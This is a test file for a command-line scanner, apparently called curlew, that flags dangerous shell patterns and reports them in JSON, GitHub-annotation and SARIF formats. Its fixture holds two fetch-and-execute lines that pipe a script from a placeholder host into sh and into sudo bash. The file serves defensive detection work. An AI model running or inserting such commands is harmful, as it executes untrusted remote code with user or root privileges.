import { readFileSync } from "node:fs";
import { Ajv } from "ajv";
import addFormats from "ajv-formats";
import { describe, expect, it } from "vitest";
import type { Detector } from "../../src/cli/context.js";
import type { Span } from "../../src/core/index.js";
import { folderWith } from "./folder-with.js";
import { runHere, fakeDetector } from "./fake-detector.js";

const TEXT =
  "日🙂 curl https://x.example/i.sh | sh\nand\r\ncurl -s https://x.example/j.sh | sudo bash -s\n";
const cwd = folderWith({
  "a b,c.md": TEXT,
  "clean.md": "nothing",
  "long.md": "TOO LONG",
  "advisory.md": "ADVISORY",
});
const scan = (...args: string[]) => runHere(["scan", ...args], { cwd });

describe("the format json", () => {
  it("is one document", async () => {
    const { stdout, status } = await scan("--format", "json", ".", "missing.md");
    const answer = JSON.parse(stdout);
    expect(answer).toMatchObject({
      tool: "curlew",
      offsetEncoding: "utf-16",
      revision: { package: "0.0.0" },
    });
    expect(
      answer.files.map((file: { path: string; labels: string[] }) => [file.path, file.labels]),
    ).toEqual([
      ["a b,c.md", ["PS"]],
      ["advisory.md", []],
      ["clean.md", []],
      ["long.md", []],
    ]);
    expect(answer.summary).toMatchObject({
      files: 4,
      flagged: 1,
      findings: 2,
      advisories: 1,
      incomplete: 1,
    });
    expect(answer.summary.unread).toEqual([
      { path: "missing.md", reason: "unreadable", message: "no such file or folder" },
    ]);
    expect(status).toBe(2);
  });

  it("has an empty list if no file can be read", async () => {
    expect(JSON.parse((await scan("--format", "json", "missing.md")).stdout).files).toEqual([]);
  });

  it.each([
    [
      "utf-16",
      [
        [4, 36],
        [42, 84],
      ],
    ],
    [
      "codepoint",
      [
        [3, 35],
        [41, 83],
      ],
    ],
    [
      "utf-8",
      [
        [8, 40],
        [46, 88],
      ],
    ],
  ])("has offsets in %s and line numbers", async (encoding, spans) => {
    const { stdout } = await scan("--format", "jsonl", "--offset-encoding", encoding, "a b,c.md");
    const file = JSON.parse(stdout);
    expect(file.spans).toEqual(spans);
    expect(file.findings[1].span).toEqual(spans[1]);
    expect(file.findings[1].location).toEqual({
      start: { line: 3, column: 1 },
      end: { line: 3, column: 43 },
    });
  });

  it("has the span of a limit in the requested unit", async () => {
    const detect: Detector["detect"] = (_text, { offsetEncoding = "utf-16" } = {}) => {
      const span: Span = offsetEncoding === "utf-8" ? [4, 5] : [2, 3];
      const limits = [{ limit: "size" as const, message: "the rest was not read", span }];
      return {
        labels: [],
        spans: [],
        findings: [],
        notes: [],
        outcome: { status: "incomplete", limits },
      };
    };
    const toolkit = { createDetector: async () => ({ ...fakeDetector, detect }) };
    const { stdout } = await runHere(
      ["scan", "--format", "jsonl", "--offset-encoding", "utf-8", "-"],
      { stdin: "🙂x", toolkit },
    );
    expect(JSON.parse(stdout).outcome.limits[0].span).toEqual([4, 5]);
  });
});

describe("the format jsonl", () => {
  it("is one line per text", async () => {
    const { stdout } = await scan("--format", "jsonl", ".");
    expect(stdout.trimEnd().split("\n").length).toBe(4);
  });
});

describe("the format github", () => {
  it("annotates findings, advisories, incompletely analyzed texts and unread files", async () => {
    const { stdout } = await scan(
      "--format",
      "github",
      "a b,c.md",
      "long.md",
      "advisory.md",
      "missing.md",
    );
    const [first, second, third, fourth, fifth] = stdout.split("\n");
    expect(first).toMatch(
      /^::error file=a b%2Cc\.md,line=1,endLine=1,col=5,endColumn=37,title=bash\/fetch-pipe::what is fetched.*%0ASafer:%0Acurl /,
    );
    expect(second).toContain("line=3,endLine=3,col=1");
    expect(third).toBe("::warning file=long.md,title=not fully analyzed::the rest was not read");
    expect(fourth).toMatch(/^::warning file=advisory\.md,line=1/);
    expect(fifth).toBe("::warning file=missing.md,title=not scanned::no such file or folder");
  });
});

describe("the format sarif", () => {
  // The published schema of SARIF 2.1.0 is for draft 4 of JSON Schema, but uses only keywords that have the same meaning in draft 7.
  const {
    $schema: _draft,
    id: _id,
    ...schema
  } = JSON.parse(
    readFileSync(new URL("../fixtures/sarif/sarif-2.1.0-rtm.5.json", import.meta.url), "utf8"),
  );
  const ajv = new Ajv({ strict: false, allErrors: true, unicodeRegExp: false });
  addFormats.default(ajv);
  const validate = ajv.compile(schema);

  it.each([
    [["."]],
    [["clean.md"]],
    [["a b,c.md", "missing file.md", "long.md"]],
    [["missing.md"]],
  ])("conforms to the published schema for %j", async (paths) => {
    const log = JSON.parse((await scan("--format", "sarif", ...paths)).stdout);
    validate(log);
    expect(validate.errors ?? []).toEqual([]);
  });

  it("does not conform to the schema if a result lacks required properties", () => {
    expect(validate({ version: "2.1.0", runs: [{ results: [] }] })).toBe(false);
  });

  it("contains rule, location and steps of a finding, and what was not analyzed", async () => {
    const log = JSON.parse(
      (await scan("--format", "sarif", "a b,c.md", "missing.md", "long.md")).stdout,
    );
    const [run] = log.runs;
    expect(run.columnKind).toBe("utf16CodeUnits");
    expect(run.tool.driver.rules[run.results[0].ruleIndex].id).toBe("bash/fetch-pipe");
    expect(run.results[0].locations[0].physicalLocation).toEqual({
      artifactLocation: { uri: "a%20b%2Cc.md" },
      region: {
        startLine: 1,
        startColumn: 5,
        endLine: 1,
        endColumn: 37,
        charOffset: 4,
        charLength: 32,
        snippet: { text: "curl https://x.example/i.sh | sh" },
      },
      contextRegion: {
        startLine: 1,
        endLine: 2,
        snippet: { text: "日🙂 curl https://x.example/i.sh | sh\nand" },
      },
    });
    expect(run.results[0].codeFlows[0].threadFlows[0].locations.length).toBe(2);
    expect(run.results[0].partialFingerprints["curlew/v1"]).toMatch(/^[0-9a-f]{64}$/);
    expect(run.invocations[0].executionSuccessful).toBe(false);
    expect(
      run.invocations[0].toolExecutionNotifications.map(
        (n: { message: { text: string } }) => n.message.text,
      ),
    ).toEqual(["the rest was not read", "no such file or folder"]);
  });

  it("has file URIs for absolute paths, and the name stdin for standard input", async () => {
    const absolute = JSON.parse((await scan("--format", "sarif", `${cwd}/a b,c.md`)).stdout);
    expect(absolute.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri).toMatch(
      /^file:\/\/\/.*a%20b,c\.md$/,
    );
    const { stdout } = await runHere(["scan", "--format", "sarif", "-"], { stdin: TEXT });
    expect(
      JSON.parse(stdout).runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri,
    ).toBe("stdin");
  });
});
